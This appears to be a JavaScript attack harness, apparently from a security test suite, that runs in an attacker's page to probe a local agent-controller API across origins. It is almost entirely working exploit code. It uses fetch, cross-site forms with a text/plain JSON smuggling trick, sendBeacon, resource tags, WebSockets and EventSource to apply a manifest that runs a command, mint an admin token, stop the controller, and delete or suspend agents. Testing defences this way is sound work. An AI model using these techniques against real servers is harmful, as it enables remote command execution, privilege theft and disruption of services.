// Owns: every way in which a web page can ask a server for something. Runs in the page of an attacker.
// Never: is told anything that a page could not know, but for `known`, a token, as if one had leaked.

/** What could be read, each a line; nothing when all was refused. */
globalThis.attack = async ({ target, known }) => {
  const read = [];
  const body = JSON.stringify({ items: [], source: { kind: 'apply', name: 'cli' }, nothing: 1 });
  const manifest = JSON.stringify({
    items: [
      {
        origin: 'evil',
        manifest: {
          apiVersion: 'sac/v1',
          kind: 'Agent',
          metadata: { name: 'evil' },
          spec: { command: ['touch', '/tmp/evil'] },
        },
      },
    ],
    source: { kind: 'apply', name: 'cli' },
  });
  const within = (work) =>
    Promise.race([work.catch(() => undefined), new Promise((give) => setTimeout(give, 3_000, undefined))]);
  const paths = [
    '/metrics',
    '/version',
    '/openapi.json',
    '/healthz',
    '/apis/sac/v1/agents',
    '/apis/sac/v1/agents?watch=true',
    '/apis/sac/v1/controller',
    '/apis/sac/v1/tokens',
  ];
  const requests = paths.flatMap((path) => [
    [path, {}],
    [path, { mode: 'no-cors' }],
    [path, { credentials: 'include' }],
    [path, { headers: { authorization: `Bearer ${known}` } }],
  ]);
  for (const type of [
    'text/plain',
    'application/x-www-form-urlencoded',
    'multipart/form-data',
    'application/json',
    '',
  ]) {
    const headers = type === '' ? {} : { 'content-type': type };
    for (const [path, method, text] of [
      ['/apis/sac/v1/apply', 'POST', manifest],
      ['/apis/sac/v1/agents/web/restart', 'POST', '{}'],
      ['/apis/sac/v1/controller/stop', 'POST', '{}'],
      ['/apis/sac/v1/tokens', 'POST', '{"role":"admin"}'],
      ['/apis/sac/v1/agents/web', 'DELETE', '{}'],
      ['/apis/sac/v1/agents/web', 'PATCH', '{"spec":{"suspend":true}}'],
      ['/apis/sac/v1/apply', 'POST', body],
    ]) {
      requests.push([path, { method, headers, body: text }]);
      if (method === 'POST')
        requests.push([path, { method, headers, body: text, mode: 'no-cors', credentials: 'include' }]);
      requests.push([path, { method, headers: { ...headers, authorization: `Bearer ${known}` }, body: text }]);
    }
  }
  await Promise.all(
    requests.map(async ([path, init]) => {
      const response = await within(fetch(target + path, init));
      if (!response) return;
      const text = (await within(response.text())) ?? '';
      if (response.ok || (text !== '' && !text.includes('"status":"Failure"')))
        read.push(`${init.method ?? 'GET'} ${path}: ${response.status} ${text.slice(0, 80)}`);
    }),
  );
  // Forms: no preflight, no CORS, into a frame of the page's own.
  for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'])
    for (const path of [
      '/apis/sac/v1/apply',
      '/apis/sac/v1/agents/web/restart',
      '/apis/sac/v1/controller/stop',
      '/apis/sac/v1/tokens',
    ]) {
      const frame = document.createElement('iframe');
      frame.name = `f${Math.random()}`;
      const form = document.createElement('form');
      Object.assign(form, { action: target + path, method: 'POST', enctype, target: frame.name });
      const input = document.createElement('input');
      // The old trick: name and value of a text/plain form together are JSON.
      Object.assign(input, { name: `${manifest.slice(0, -1)},"x":"`, value: '"}' });
      form.append(input);
      document.body.append(frame, form);
      await within(
        new Promise((loaded) => {
          frame.onload = loaded;
          frame.onerror = loaded;
          form.submit();
        }),
      );
      try {
        const text = frame.contentDocument?.body.textContent ?? '';
        if (text !== '' && !text.includes('"status":"Failure"')) read.push(`form ${path}: ${text.slice(0, 80)}`);
      } catch {
        // Another origin: the page cannot look inside.
      }
    }
  navigator.sendBeacon(`${target}/apis/sac/v1/controller/stop`, '{}');
  navigator.sendBeacon(`${target}/apis/sac/v1/agents/web/restart`, new Blob(['{}'], { type: 'text/plain' }));
  for (const tag of ['img', 'script', 'iframe', 'link', 'object', 'audio'])
    for (const path of ['/metrics', '/apis/sac/v1/agents', '/apis/sac/v1/agents/web/logs', '/version']) {
      const element = document.createElement(tag);
      if (tag === 'link') Object.assign(element, { rel: 'stylesheet', href: target + path });
      else if (tag === 'object') Object.assign(element, { data: target + path });
      else Object.assign(element, { src: target + path });
      const loaded = await within(
        new Promise((settle) => {
          element.onload = () => settle('load');
          element.onerror = () => settle('error');
          document.body.append(element);
        }),
      );
      // A frame loads its error page too; whatever else loads was given as what it is.
      if (loaded === 'load' && tag !== 'iframe' && tag !== 'object') read.push(`<${tag}> ${path}`);
    }
  for (const path of ['/apis/sac/v1/agents?watch=true', '/']) {
    const opened = await within(
      new Promise((settle) => {
        const socket = new WebSocket(target.replace('http', 'ws') + path);
        socket.onopen = () => settle('open');
        socket.onerror = () => settle('refused');
      }),
    );
    if (opened === 'open') read.push(`WebSocket ${path}`);
    const events = new EventSource(target + path);
    const heard = await within(
      new Promise((settle) => {
        events.onopen = () => settle('open');
        events.onerror = () => settle('refused');
      }),
    );
    events.close();
    if (heard === 'open') read.push(`EventSource ${path}`);
  }
  return read;
};
